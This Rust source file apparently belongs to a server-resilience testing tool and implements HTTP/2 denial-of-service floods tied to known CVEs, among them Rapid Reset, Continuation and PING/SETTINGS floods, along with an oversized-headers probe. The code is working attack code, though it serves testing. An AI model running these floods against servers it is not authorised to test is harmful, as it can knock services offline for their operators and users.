//! Frames of HTTP/2 that cost their sender little and a server that is not careful much.

use std::io;
use std::iter::{once, repeat_n};

use super::h2::{Connection, END_HEADERS, END_STREAM, Ending, Frame, Kind};
use super::hpack;
use crate::target::Target;

/// A flood over one connection.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// Requests that are cancelled as they are made (CVE-2023-44487).
    RapidReset,
    /// A header that never ends (CVE-2024-27316).
    Continuation,
    /// A body of nothing, in many pieces (CVE-2019-9518).
    EmptyData,
    /// Questions whether somebody is there (CVE-2019-9512).
    Ping,
    /// Settings, each of which must be acknowledged (CVE-2019-9515).
    Settings,
    /// Leave to send, byte by byte.
    WindowUpdate,
}

impl Flood {
    /// All of them.
    pub const ALL: [Self; 6] = [
        Self::RapidReset,
        Self::Continuation,
        Self::EmptyData,
        Self::Ping,
        Self::Settings,
        Self::WindowUpdate,
    ];

    /// Sends `pieces` of a few kilobytes each, unless the server ends it before; how, if it did.
    ///
    /// # Errors
    ///
    /// When there is no connection.
    pub async fn run(self, target: Target, pieces: usize) -> io::Result<Option<Ending>> {
        let connection = Connection::open(target, &[]).await?;
        let flood = match self {
            Self::RapidReset => return Ok(connection.flood((0..pieces).map(resets)).await),
            Self::Continuation => vec![
                Frame::new(Kind::HEADERS, END_STREAM, 1, hpack::block(small_fields())),
                Frame::new(Kind::CONTINUATION, 0, 1, hpack::block([("x-more", "and more")])),
            ],
            Self::EmptyData => vec![Frame::call(1, "StreamFrames"), Frame::data(1, 0, Vec::new())],
            Self::Ping => vec![Frame::ping()],
            Self::Settings => vec![Frame::settings(&[])],
            Self::WindowUpdate => vec![Frame::window_update(0, 1)],
        };
        let last = flood.last().map(many).unwrap_or_default();
        let first = flood.iter().flat_map(Frame::bytes).collect();
        Ok(connection.flood(once(first).chain(repeat_n(last, pieces))).await)
    }
}

/// One frame 200 times.
fn many(frame: &Frame) -> Vec<u8> {
    frame.bytes().repeat(200)
}

/// The `n`th 50 requests, and the end of each.
fn resets(n: usize) -> Vec<u8> {
    const EACH: usize = 50;
    let streams = (n * EACH..(n + 1) * EACH).map(|n| 2 * n as u32 + 1);
    streams
        .flat_map(|stream| [Frame::get(stream, "/healthz").bytes(), Frame::cancel(stream).bytes()].concat())
        .collect()
}

fn small_fields() -> [(&'static str, &'static str); 4] {
    [(":method", "GET"), (":scheme", "http"), (":path", "/healthz"), (":authority", "localhost")]
}

/// How the server ends a request with so many fields.
///
/// # Errors
///
/// When there is no connection.
pub async fn many_headers(target: Target, count: usize) -> io::Result<Ending> {
    let names: Vec<_> = (0..count).map(|n| format!("x-{n}")).collect();
    let fields =
        small_fields().into_iter().chain(names.iter().map(|name| (name.as_str(), "sixteen bytes ..")));
    let block = hpack::block(fields);
    let mut connection = Connection::open(target, &[]).await?;
    // A frame holds 16 KiB unless the other end takes more.
    let mut rest = block.chunks(16 << 10).peekable();
    let mut kind = Kind::HEADERS;
    while let Some(piece) = rest.next() {
        let flags = if rest.peek().is_none() { END_HEADERS } else { 0 };
        let flags = if kind == Kind::HEADERS { flags | END_STREAM } else { flags };
        connection.send(&Frame::new(kind, flags, 1, piece.to_vec())).await?;
        kind = Kind::CONTINUATION;
    }
    Ok(connection.ending(1).await)
}
